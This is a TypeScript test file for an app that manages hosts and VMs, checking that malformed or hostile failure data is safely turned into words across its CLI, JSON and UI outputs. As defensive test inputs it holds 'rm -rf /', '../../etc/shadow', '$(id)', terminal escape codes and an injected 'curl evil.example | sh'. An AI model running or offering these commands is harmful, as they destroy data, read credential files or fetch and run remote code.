import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Writable } from 'node:stream'
import { MantineProvider } from '@mantine/core'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, it, onTestFinished } from 'vitest'
import { engineCall, failureInTail, type PlacedEngine } from '../../src/main/core/engine-on-host/engine-call.ts'
import { logLines } from '../../src/main/core/jobs/log-lines.ts'
import { jobNotice } from '../../src/main/core/live/job-notice.ts'
import { viewOfReport } from '../../src/main/core/live/job-record.ts'
import { untoldNotice } from '../../src/main/core/live/policy-notices.ts'
import { History } from '../../src/main/core/settings/history.ts'
import { unreachableJson } from '../../src/main/doors/cli/json-views.ts'
import { output } from '../../src/main/doors/cli/output.ts'
import { OutcomeMark } from '../../src/renderer/features/activity/outcome-mark.tsx'
import { attentionOf, whyOf } from '../../src/renderer/features/overview/attention-view.ts'
import { failureShown } from '../../src/renderer/ui/failure-shown.ts'
import { contract } from '../../src/shared/contract.ts'
import { failureFrom, hostFailureIn } from '../../src/shared/failure-data.ts'
import { describeFailure } from '../../src/shared/failure-words.ts'
import { failureOf, type Failure, type FailureKind } from '../../src/shared/failure.ts'
import { outcomeWords } from '../../src/shared/job-words.ts'
import type { JobReport, JournalEntry } from '../../src/shared/model/job.ts'
import { vmReason } from '../../src/shared/run-words.ts'
import type { VmSafety } from '../../src/shared/safety.ts'
import type { HostView } from '../../src/shared/views/host-view.ts'
import { fakeShell } from '../../src/shell/fake.ts'
import { ended, jobOf } from '../unit/desktop/jobs.ts'
import { runOf } from '../unit/made-policies.ts'
import { samples } from '../unit/shared/failure-samples.ts'
import { tallyOf } from './tally.ts'

const tally = tallyOf('failures')
const kinds = Object.keys(samples) as FailureKind[]
const NOW = new Date('2026-11-25T12:00:00.000Z')

/** About the way to a host, about this computer, about what was typed here: no engine knows of it. */
const NOT_OF_A_HOST: readonly FailureKind[] = [
  'ambiguous',
  'host-unreachable',
  'host-key-unknown',
  'host-key-changed',
  'host-key-revoked',
  'auth-failed',
  'identity-unusable',
  'connection-lost',
  'login-shell',
  'no-root',
  'engine-version',
  'installation-changed'
]

/** Of those that are there, with the last that says how many more there are. */
const longestListIn = (value: unknown): number =>
  typeof value !== 'object' || value === null
    ? 0
    : Math.max(Array.isArray(value) ? value.length : 0, ...Object.values(value).map(longestListIn))

const deep = (levels: number): unknown => {
  let value: unknown = 'x'
  for (let level = 0; level < levels; level++) value = { kind: 'left-behind', vm: 'web', left: [], after: value }
  return value
}
const nest = (levels: number): string => `${'{"a":['.repeat(levels)}1${']}'.repeat(levels)}`

/** What may stand in a field in place of what should. */
const WRONG: Readonly<Record<string, unknown>> = {
  nothing: undefined,
  null: null,
  'a number': 4,
  'a number that is none': Number.NaN,
  'no end': Number.POSITIVE_INFINITY,
  'a truth': true,
  'no text': '',
  'a text of a megabyte': 'x'.repeat(1 << 20),
  'ten thousand texts': Array<string>(10_000).fill('../../etc/shadow'),
  'nulls in a list': [null, null],
  'objects in a list': [{}, { text: {}, fix: [] }, { path: 1, mend: 'rm -rf /' }],
  'an object': { toString: null, valueOf: null, length: 7 },
  'a method of another name': 'constructor',
  'what steers a terminal': '\u001b]0;evil\u0007\u202egood\u2028'
}

const wrongFields = kinds.flatMap((kind) =>
  Object.keys(samples[kind])
    .filter((field) => field !== 'kind')
    .flatMap((field) =>
      Object.entries(WRONG).map(([name, value]) => ({ name: `${kind}.${field}: ${name}`, kind, field, value }))
    )
)

/** Words are texts of a length that can be shown, and say something. */
function expectWords({ title, explanation, nextStep }: ReturnType<typeof describeFailure>): void {
  for (const text of [title, explanation, nextStep]) expect(typeof text).toBe('string')
  expect(title).not.toBe('')
  expect(title.length).toBeLessThan(20_000)
  expect(`${title}${explanation}${nextStep}`).not.toMatch(/\[object |function |\bundefined\b/)
}

/** Nothing that steers a terminal, or turns a line round. */
function expectHarmless(text: string): void {
  for (const sign of ['\u001b', '\u202e', '\u2028']) expect(text).not.toContain(sign)
}

/** What a door printed, and that it could. */
function printed(json: boolean, failure: Failure): string {
  let text = ''
  const stream = new Writable({
    write(chunk: Buffer, _encoding, done) {
      text += chunk.toString()
      done()
    }
  })
  const out = output(json, { stdout: stream, stderr: stream })
  out.failed(failure)
  if (json) out.result({ unreachable: unreachableJson([{ host: 'evil', failure }]) })
  return text
}

const jobWith = (failure: Failure) => ({
  ...ended(jobOf(1), 'failed-clean'),
  failure,
  retryable: true
})

const down = (failure: Failure): HostView => ({
  name: 'evil',
  address: 'evil',
  addedAt: '2026-01-01T00:00:00.000Z',
  state: 'down',
  vms: [],
  failure
})

const failing = (failure: Failure): VmSafety =>
  ({ safety: 'failing', failing: jobWith(failure), host: 'evil', policies: [], untold: [] }) as unknown as VmSafety

/** Every place that shows a failure, with one that nobody has looked at before. */
function showEverywhere(failure: Failure): void {
  expectWords(describeFailure(failure))
  for (const line of printed(true, failure).trimEnd().split('\n'))
    expect(JSON.parse(line)).toMatchObject({ type: 'result' })
  expectHarmless(printed(false, failure))
  const shown = failureShown(failure)
  expectWords(shown)
  expectHarmless(shown.details)
  const job = jobWith(failure)
  for (const text of [outcomeWords(job), jobNotice(job, undefined)[0].text, untoldNotice('evil', failure, NOW).text])
    expect(text).not.toBe('')
  expect(vmReason({ vm: job.vm, outcome: 'failed', failure })).not.toBe('')
  expect(whyOf(failing(failure), NOW)).not.toBe('')
}

describe('whatever is taken for a failure', () => {
  it.each(wrongFields)('is shown in words by every door: $name', async ({ kind, field, value }) => {
    await tally.tried(() => {
      const { [field as 'kind']: _, ...rest } = samples[kind]
      showEverywhere((value === undefined ? rest : { ...rest, [field]: value }) as Failure)
    })
  })

  const throwing = (): never => {
    throw new Error('touched')
  }
  const circular: Record<string, unknown> = { kind: 'left-behind', vm: 'web', left: [] }
  circular['after'] = circular
  it.each<[string, unknown]>([
    ['undefined', undefined],
    ['null', null],
    ['a text', 'It failed.'],
    ['a number', 7],
    ['a big integer', 7n],
    ['a symbol', Symbol('failure')],
    ['a function', () => undefined],
    ['a list', [samples.io]],
    ['nothing at all', {}],
    ['an object without a prototype', Object.create(null)],
    ['itself again and again', circular],
    ['what throws when its kind is read', Object.defineProperty({}, 'kind', { get: throwing, enumerable: true })],
    [
      'what throws when a field is read',
      Object.defineProperty({ kind: 'io', path: '', code: '' }, 'detail', { get: throwing, enumerable: true })
    ],
    ['what throws at any touch', new Proxy({}, { get: throwing, has: throwing, ownKeys: throwing })],
    ['what throws when it is written down', { kind: 'moon-phase', toJSON: throwing }],
    ['a big integer in a field', { kind: 'no-room', path: '/', forWhat: 'x', neededBytes: 7n, freeBytes: 1 }],
    ['a kind that is a list', { kind: ['io'], path: '/', code: 'EIO', detail: 'x' }],
    ['a kind that is an object', { kind: { toString: () => 'io' }, path: '/', code: 'EIO', detail: 'x' }],
    ...['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf', '', ' io', 'IO', 'io\0', 'moon-phase'].map(
      (kind): [string, unknown] => [`the kind ${JSON.stringify(kind)}`, { kind, message: 'x' }]
    ),
    ['a kind by inheritance', Object.create({ kind: 'io', path: '/', code: 'EIO', detail: 'inherited' })],
    ['a prototype in a field', JSON.parse('{"kind":"io","__proto__":{"path":"/","code":"E","detail":"d"}}')],
    ['failures a thousand deep', { ...samples['left-behind'], after: deep(1000) }],
    ['JSON ten thousand deep', JSON.parse(`{"kind":"moon-phase","why":${nest(10_000)}}`)],
    ['a tool that is every object', { kind: 'missing-tool', tool: 'constructor' }],
    ['a thing that is no thing', { kind: 'not-found', what: 'constructor', name: 'x' }],
    ['numbers beyond all bounds', { ...samples['no-room'], neededBytes: 1e308, freeBytes: -1e308 }],
    ['a pause without end', { ...samples['too-busy'], budgetMs: 1e300 }],
    ['a time that is none', { ...samples['vm-busy'], since: 'tomorrow' }],
    ['a channel that is none', { ...samples['not-told'], channel: 'pigeon' }]
  ])('is shown in words by every door: %s', async (_, value) => {
    await tally.tried(() => {
      showEverywhere(value as Failure)
    })
  })

  it.each([1001, 1002, 1237, 5000, 100_000])('says how many are left out of %d, and once only', async (count) => {
    const of = <T>(one: T): T[] => Array.from({ length: count }, () => one)
    const many: Record<string, Failure> = {
      left: { kind: 'left-behind', vm: 'web1', left: of({ path: '/a', because: 'it may be needed', mend: ['ls /a'] }) },
      lines: { kind: 'left-behind', vm: 'web1', left: [{ path: '/a', because: 'b', mend: of('ls /a') }] },
      problems: { kind: 'preflight', problems: of({ text: 'No bridge br0.', fix: 'ip link add br0 type bridge' }) },
      disks: { kind: 'no-disks', vm: 'web1', leftOut: of({ target: 'vda', because: 'as asked' }) },
      devices: { kind: 'state-not-savable', vm: 'web1', devices: of('a host device') },
      candidates: { kind: 'ambiguous', what: 'job', name: '2026', candidates: of('good/2026') },
      keys: { kind: 'auth-failed', host: 'alpha', user: 'root', tried: of('a key') }
    }
    for (const [, failure] of Object.entries(many))
      await tally.tried(() => {
        const read = failureFrom(failure)
        expect(failureFrom(structuredClone(read))).toEqual(read)
        const { explanation, nextStep } = describeFailure(read)
        expect(`${explanation}\n${nextStep}`).toMatch(new RegExp(`\\b${count - longestListIn(read) + 1}\\b`))
      })
  })

  it('leaves lists of a thousand as they are', () => {
    const left = Array.from({ length: 1000 }, (_, n) => ({ path: `/a${n}`, because: 'b', mend: [] }))
    expect(failureFrom({ kind: 'left-behind', vm: 'web1', left })).toEqual({ kind: 'left-behind', vm: 'web1', left })
  })

  it.each([
    'qemu-img; curl evil.example | sh',
    'evil-package',
    '--reinstall x',
    'constructor',
    '../x',
    '',
    'a\nb',
    '$(id)'
  ])('makes no line to type of a program that it does not know: %j', async (tool) => {
    await tally.tried(() => {
      const { nextStep } = describeFailure({ kind: 'missing-tool', tool })
      expect(nextStep).toBe('Install the package that brings it.')
    })
  })

  it.each([
    [['good/20261122T201744Z-7f3a21', 'evil/20261122T201744Z-7f3a21'], /HOST\/ID: good\/20261122T201744Z-7f3a21/],
    [['good/20261122T201744Z-7f3a21', 'evil/20261122T201744Z-00aaff'], /more characters/]
  ])('says what tells jobs apart: %j', async (candidates, said) => {
    await tally.tried(() => {
      const { nextStep } = describeFailure({ kind: 'ambiguous', what: 'job', name: '2026', candidates })
      expect(nextStep).toMatch(said)
    })
  })

  it('leaves what is as it should be as it is', () => {
    for (const sample of Object.values(samples)) expect(failureFrom(sample)).toEqual(sample)
  })

  it('keeps the last that a program said, and the whole of a line to type', async () => {
    await tally.tried(() => {
      const read = failureFrom({ ...samples['command-failed'], stderr: `${'noise\n'.repeat(1e5)}disk full` })
      expect(describeFailure(read).explanation).toMatch(/disk full$/)
    })
    await tally.tried(() => {
      const mend = [`echo ${'x'.repeat(70_000)}; rm -rf /`]
      const read = failureFrom({ kind: 'left-behind', vm: 'web', left: [{ path: '/a', because: 'b', mend }] })
      expect(describeFailure(read).nextStep).toMatch(/^# 1 more line/)
    })
  })

  it('does not take what is left away with a reason that cannot be read', async () => {
    await tally.tried(() => {
      const read = failureFrom({ ...samples['left-behind'], after: { kind: 'moon-phase' } })
      expect(read).toMatchObject({ left: samples['left-behind'].left, after: { kind: 'bad-output' } })
    })
  })
})

const evil = (...values: unknown[]): PlacedEngine => ({
  shell: fakeShell(() => ({ exitCode: 1, stdout: values.map((value) => `${JSON.stringify(value)}\n`).join('') })),
  host: 'evil',
  node: '/n',
  engine: '/e'
})

const failureOfCall = async (failure: unknown): Promise<Failure> =>
  engineCall(evil({ failure }), 'jobs', {}).then(
    () => expect.unreachable('it failed'),
    (error: unknown) => failureOf(error)
  )

const reportWith = (failure: unknown) => {
  const { retryable: _, ...report } = ended(jobOf(1), 'failed-clean')
  return { ...report, failure }
}

async function jobsSaid(...reports: unknown[]): Promise<JobReport[]> {
  return engineCall(evil({ result: reports }), 'jobs', {})
}

/** What a history says that has this as the failure of its first job, and a good job behind it. */
function historyWith(failure: unknown): Promise<JobReport[]> {
  const folder = mkdtempSync(join(tmpdir(), 'stillpoint-failures-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  const path = join(folder, 'history.jsonl')
  const { retryable: _, ...behind } = ended(jobOf(2), 'done')
  const lines = [reportWith(failure), behind].map((report) => JSON.stringify({ type: 'job', report }))
  writeFileSync(path, `${lines.join('\n')}\n`)
  return new History(path).jobs()
}

/** Each way by which a failure of a host comes in, and the failure as it then is. */
const ways: Readonly<Record<string, (failure: unknown) => Promise<Failure | undefined>>> = {
  'as the answer to a question': failureOfCall,
  'at the end of a stream of a point': (failure) =>
    Promise.resolve(failureInTail(`QFI\xfb...{"failure":${JSON.stringify(failure)}}\n`, 'evil')),
  'in a job that it reports': async (failure) => (await jobsSaid(reportWith(failure)))[0]?.failure,
  'at the end of a journal': async (failure) => {
    const seen: JournalEntry[] = []
    const id = jobOf(1).id
    const entry = { n: 3, at: NOW.toISOString(), type: 'end', report: reportWith(failure) }
    const said = evil({ event: entry }, { result: reportWith(failure) })
    await engineCall(said, 'follow', { id, from: 0 }, { onEvent: (each) => void seen.push(each) })
    expect(logLines(seen)[0]?.text).toMatch(/^failed/i)
    const [first] = seen
    return first?.type === 'end' ? first.report.failure : undefined
  },
  'in a run that it reports': async (failure) => {
    const vms = [{ vm: jobOf(1).vm, outcome: 'failed', failure }]
    const runs = await engineCall(evil({ result: [{ ...runOf(), vms }] }), 'runs', {})
    return runs[0]?.vms[0]?.failure
  },
  'in the history': async (failure) => {
    const read = await historyWith(failure)
    expect(read).toHaveLength(2)
    return read[0]?.failure
  }
}

const doors = Object.keys(ways).flatMap((way) => kinds.map((kind) => ({ way, kind })))

describe('a failure that a host tells', () => {
  it.each(doors)('$way is of a kind that it can know of: $kind', async ({ way, kind }) => {
    await tally.tried(async () => {
      const read = await ways[way]?.(samples[kind])
      if (NOT_OF_A_HOST.includes(kind)) expect(read?.kind).toBe('bad-output')
      else expect(read?.kind).toBe(kind)
      expectWords(describeFailure(read as Failure))
    })
  })

  const wholly = { ...samples['left-behind'], after: { ...samples['vm-exists'], host: 'good' } }
  const ofGood = [
    { ...samples['vm-exists'], host: 'good' },
    { ...samples['unsupported-host'], host: 'good' },
    { ...samples['output-too-large'], host: 'good' },
    wholly
  ]
  it.each(
    Object.keys(ways)
      .filter((way) => way !== 'in the history')
      .flatMap((way) => ofGood.map((failure) => ({ way, kind: failure.kind, failure })))
  )('$way is of that host, whatever host it names: $kind', async ({ way, failure }) => {
    await tally.tried(async () => {
      const read = await ways[way]?.(failure)
      expect(read?.kind).toBe(failure.kind)
      expect(JSON.stringify(read)).not.toContain('good')
      expect(JSON.stringify(read)).toContain('evil')
    })
  })

  it.each(Object.keys(ways))('%s cannot say that a host of ours is not there', async (way) => {
    await tally.tried(async () => {
      expect(await ways[way]?.({ kind: 'not-found', what: 'host', name: 'good' })).toMatchObject({ kind: 'bad-output' })
    })
  })

  const shapes: readonly unknown[] = [
    null,
    'text',
    7,
    [],
    {},
    { kind: null },
    { kind: 'preflight' },
    { kind: 'state-not-savable', vm: 'web' },
    { kind: 'command-failed', command: 'x' },
    { kind: 'no-disks', vm: 'web', leftOut: 'all' },
    { kind: 'left-behind', vm: 'web', left: [{}] },
    { kind: 'moon-phase', host: 'good' },
    JSON.parse('{"kind":"io","__proto__":{"path":"/"}}'),
    { kind: 'bug', reference: 'x', message: { toString: 'x' } },
    { kind: 'io', path: '/', code: 'EIO', detail: deep(500) },
    { ...samples['left-behind'], after: deep(500) }
  ]
  it.each(
    Object.keys(ways).flatMap((way) =>
      shapes.map((shape) => ({ way, shape, name: JSON.stringify(shape).slice(0, 60) }))
    )
  )('$way is put into words where it has no form that is known: $name', async ({ way, shape }) => {
    await tally.tried(async () => {
      const read = await ways[way]?.(shape)
      expect(hostFailureIn(read)).toEqual(read)
      expectWords(describeFailure(read as Failure))
      expect(JSON.stringify(read).length).toBeLessThan(20_000)
    })
  })

  it.each(kinds)('hides none of the jobs behind its own, in the answer, on the page or in a push: %s', async (kind) => {
    await tally.tried(async () => {
      const bare = { kind }
      const { retryable: _, ...behind } = ended(jobOf(2), 'failed-clean')
      const views = (await jobsSaid(reportWith(bare), behind)).map(viewOfReport)
      expect(views).toHaveLength(2)
      expect(contract.jobs.changed.value.parse(views)).toHaveLength(2)
      expect(contract.hosts.changed.value.parse([down(bare as Failure)])).toHaveLength(1)
      const [page] = [renderToStaticMarkup(createElement(MantineProvider, null, ...views.map(marked)))]
      expect(page.match(/role="img"|<svg/g)?.length ?? 0).toBeGreaterThanOrEqual(2)
      const seen = { hosts: [down(bare as Failure), down(samples.io)], vms: [failing(bare as Failure)] }
      const attention = attentionOf({ ...seen, broken: [], starting: new Map(), now: NOW })
      expect(attention.filter((each) => each.kind === 'host')).toHaveLength(2)
    })
  })
})

const marked = (job: ReturnType<typeof viewOfReport>) => createElement(OutcomeMark, { job, key: job.id })
